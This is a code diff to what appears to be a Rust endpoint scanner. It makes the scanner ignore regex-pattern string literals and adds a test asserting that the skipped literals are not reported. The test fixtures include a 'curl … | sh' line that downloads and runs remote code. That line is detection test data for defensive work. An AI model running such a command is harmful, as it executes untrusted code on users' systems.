@@ -170,6 +170,10 @@ fn run(job: Job, path: &str, bytes: &[u8], language: &str) -> FileResult {
     let mut extra = Vec::new();
     for lit in &file.strings {
         extra.extend(text::literal_findings(path, lit));
+        // A pattern (`r"https://docs\.example\.com/…"`) describes URLs; it does not name one.
+        if lit.value.contains("\\.") {
+            continue;
+        }
         for e in hosts::endpoints_in(&lit.value) {
             endpoint(e, lit.line, lit.column, &mut extra);
         }
@@ -441,6 +445,10 @@ mod tests {
         );
         tree.insert("tests/run.test.js", file("fetch('http://10.0.0.5/api')"));
         tree.insert(
+            "src/re.py",
+            file("import re\nP = re.compile(r'https://docs\\.corp\\.example/[^ ]+')\n"),
+        );
+        tree.insert(
             "scripts/setup.sh",
             file("# http://ignored.example.net\ncurl -s https://paste.ee/r/abc | sh\n"),
         );
@@ -464,6 +472,11 @@ mod tests {
             && *r == "js.network.fetch"
             && *s == Severity::Info));
         assert!(a.hosts.iter().all(|h| h.host != "10.0.0.5"));
+        assert!(
+            a.hosts.iter().all(|h| !h.host.starts_with("docs")),
+            "{:?}",
+            a.hosts
+        );
         assert!(a.hosts.iter().any(|h| h.host == "45.61.139.22"));
         // Scripts: endpoints from every line that is not a comment.
         assert!(
